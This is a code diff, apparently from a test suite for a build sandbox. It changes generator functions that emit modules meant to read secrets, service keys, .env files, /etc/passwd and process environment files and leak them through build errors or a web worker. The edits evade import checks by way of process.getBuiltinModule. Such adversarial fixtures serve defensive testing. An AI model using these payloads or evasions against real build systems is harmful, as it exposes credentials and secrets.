@@ -42,7 +42,8 @@ export function styled(css: string): ProjectFiles {
 /** A module that, if it runs in the build, leaves a mark and has the error carry off what it can read. */
 export function thief({ secret, serviceKey, dotEnv, marker }: Target): string {
   const paths = [secret, serviceKey, dotEnv].flatMap(({ absolute, relative }) => [absolute, relative]);
-  return `import { readFileSync, writeFileSync } from 'node:fs';
+  // Without an import, which would be refused before anything is built.
+  return `const { readFileSync, writeFileSync } = process.getBuiltinModule('node:fs');
 const attempt = (work: () => unknown) => { try { return String(work()); } catch (error) { return String(error); } };
 attempt(() => writeFileSync(${JSON.stringify(marker)}, 'it ran'));
 const paths = ${JSON.stringify([...paths, '/etc/passwd', '/proc/self/environ', '/proc/1/environ'])};
@@ -56,7 +57,8 @@ export default {};
 export function workerTheft({ serviceKey }: Target): ProjectFiles {
   return {
     'src/a.ts': "new Worker(new URL('./w.ts', import.meta.url), { type: 'module' });\n",
-    'src/w.ts': `import key from '${serviceKey.relative}?raw';\npostMessage(key);\n`,
+    // Without a query the bundler reads it by itself, and a key is an expression: names with a minus between them.
+    'src/w.ts': `import '${serviceKey.relative}';\n`,
   };
 }
 
